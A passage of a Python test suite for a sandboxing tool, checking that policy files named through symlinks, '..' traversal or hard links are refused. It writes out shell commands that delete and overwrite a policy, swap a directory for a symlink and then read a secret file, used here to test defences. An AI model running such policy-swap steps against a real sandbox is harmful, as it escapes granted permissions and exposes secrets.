    real.write_text('version = 1\nextends = ["base"]\n[filesystem]\nwrite = ["${drop}"]\n'
                    'exec = ["/usr/bin/sh", "/usr/bin/dash", "/usr/bin/rm", "/usr/bin/cat"]\n')
    (drop / "tool.toml").symlink_to(real)
    (drop / "linked").symlink_to(kept)
    (kept / "sub").mkdir()
    (drop / "deep").symlink_to(kept / "sub")
    (kept / "second.toml").write_text(real.read_text())
    wider = ('version = 1\nextends = ["base"]\n[filesystem]\n'
             f'read = ["{scene.secret.parent}"]\nexec = ["/usr/bin"]\n')
    swap = ["/usr/bin/sh", "-c", f"rm {drop}/tool.toml && cat > {drop}/tool.toml <<'EOF'\n"
            f"{wider}EOF\n"]
    # the link, a linked directory, a linked directory left by '..' (the kernel follows
    # the link, then goes up from its target: the tool may retarget it)
    for named in (drop / "tool.toml", drop / "linked" / "tool.toml",
                  Path(f"{drop}/deep/../second.toml")):
        done = cli(scene, named, swap, drop=str(drop))
        assert refused(done) and "symbolic link" in done.stderr, (named, done.stderr)
        assert (drop / "tool.toml").is_symlink(), "the tool ran and swapped the policy"
    # named from a working directory the caller reached through the link ($PWD)
    done = subprocess.run(cli_args(scene, Path("tool.toml"), swap, drop=str(drop)),
                          capture_output=True, text=True, cwd=drop / "linked",
                          env={**scene.env, "PWD": str(drop / "linked")}, timeout=30, check=False)
    assert refused(done) and "symbolic link" in done.stderr, done.stderr
    # positive control: named by its real path, the same policy runs, and the tool swaps
    # the link (what it could have done above, had the run started)
    done = cli(scene, real, swap, drop=str(drop))
    assert done.returncode == 0, done.stderr
    assert not (drop / "tool.toml").is_symlink()
    later = cli(scene, drop / "tool.toml", ["/usr/bin/cat", str(scene.secret)], drop=str(drop))
    assert later.returncode == 0 and later.stdout == SECRET  # the swapped policy widened it


def test_a_policy_named_through_a_directory_it_leaves_by_dotdot_is_refused(scene: Scene) -> None:
    """The caller names the policy through a directory of the write grant that the name
    then leaves by '..' (``drop/sub/../../policies/tool.toml``, or ``../../policies/tool.toml``
    from ``drop/sub``). No link is on the way and no grant covers the file; but the tool
    can move ``sub`` and leave a link in its place, so that the same '..' leads into a
    directory of its own, where it wrote a policy the next run named the same way loads.
    Refused like a link on the way."""
    drop = scene.root / "drop"
    (drop / "sub").mkdir(parents=True)
    kept = scene.root / "policies"
    kept.mkdir()
    real = kept / "tool.toml"
    real.write_text('version = 1\nextends = ["base"]\n[filesystem]\nwrite = ["${drop}"]\n'
                    'exec = ["/usr/bin"]\n')
    wider = ('version = 1\nextends = ["base"]\n[filesystem]\n'
             f'read = ["{scene.secret.parent}"]\nexec = ["/usr/bin"]\n')
    swap = ["/usr/bin/sh", "-c", f"cd {drop} && mkdir x policies && mv sub x/y && ln -s x/y sub"
            f" && cat > policies/tool.toml <<'EOF'\n{wider}EOF\n"]
    named = Path(f"{drop}/sub/../../policies/tool.toml")
    done = cli(scene, named, swap, drop=str(drop))
    assert refused(done) and "leaves by '..'" in done.stderr, done.stderr
    assert not (drop / "sub").is_symlink(), "the tool ran and moved the directory"
    # named from the working directory the name leaves
    done = subprocess.run(cli_args(scene, Path("../../policies/tool.toml"), swap, drop=str(drop)),
                          capture_output=True, text=True, cwd=drop / "sub",
                          env={**scene.env, "PWD": str(drop / "sub")}, timeout=30, check=False)
    assert refused(done) and "leaves by '..'" in done.stderr, done.stderr
    assert not (drop / "sub").is_symlink(), "the tool ran and moved the directory"
    # positive control: named by its real path, the same policy runs and the tool moves
    # the directory; the same name then loads the tool's policy, which reads the secret
    done = cli(scene, real, swap, drop=str(drop))
    assert done.returncode == 0, done.stderr
    assert (drop / "sub").is_symlink()
    later = cli(scene, named, ["/usr/bin/cat", str(scene.secret)], drop=str(drop))
    assert later.returncode == 0 and later.stdout == SECRET, later.stderr


def test_a_policy_file_with_another_link_is_refused_a_write_grant(scene: Scene) -> None:
    """A hard link to the policy file inside the write grant (left by ``cp -al``, another
    tool, the user) is the file itself under a name the checks never see: the tool
    rewrites it and the next run loads that. Refused while the file has more than one
    link; control: with its one link, the same policy runs."""
    drop = scene.root / "drop"
    drop.mkdir()
    policy = scene.root / "tool.toml"
    policy.write_text('version = 1\nextends = ["base"]\n[filesystem]\nwrite = ["${drop}"]\n'
                      'exec = ["/usr/bin/true"]\n')
    os.link(policy, drop / "copy.toml")
    done = cli(scene, policy, ["/usr/bin/true"], drop=str(drop))
    assert refused(done) and "2 hard links" in done.stderr, done.stderr
    (drop / "copy.toml").unlink()
    done = cli(scene, policy, ["/usr/bin/true"], drop=str(drop))
    assert done.returncode == 0, done.stderr
